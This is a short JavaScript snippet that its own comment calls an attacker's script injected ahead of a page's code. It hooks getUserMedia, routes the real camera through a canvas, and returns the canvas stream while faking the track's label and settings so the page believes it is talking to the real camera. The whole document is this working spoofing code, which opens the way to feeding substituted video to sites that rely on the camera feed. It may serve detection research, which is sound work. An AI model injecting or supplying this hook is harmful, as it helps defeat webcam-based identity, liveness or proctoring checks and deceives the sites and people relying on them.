// An attacker's script, put into the page before its own: the page's camera is a canvas, on which a video is
// drawn, and says of itself what the camera behind it says.
(() => {
  const { mediaDevices } = navigator;
  if (!mediaDevices) return; // an empty tab, before the page
  const open = mediaDevices.getUserMedia.bind(mediaDevices);
  mediaDevices.getUserMedia = async (constraints) => {
    const source = await open(constraints);
    const [camera] = source.getVideoTracks();
    const video = Object.assign(document.createElement('video'), { muted: true, srcObject: source });
    await video.play();
    const canvas = document.createElement('canvas');
    Object.assign(canvas, { width: video.videoWidth, height: video.videoHeight });
    const context = canvas.getContext('2d');
    const draw = () => {
      context.drawImage(video, 0, 0);
      video.requestVideoFrameCallback(draw);
    };
    draw();
    const stream = canvas.captureStream();
    const [track] = stream.getVideoTracks();
    track.getSettings = () => camera.getSettings();
    Object.defineProperty(track, 'label', { value: camera.label });
    return stream;
  };
})();
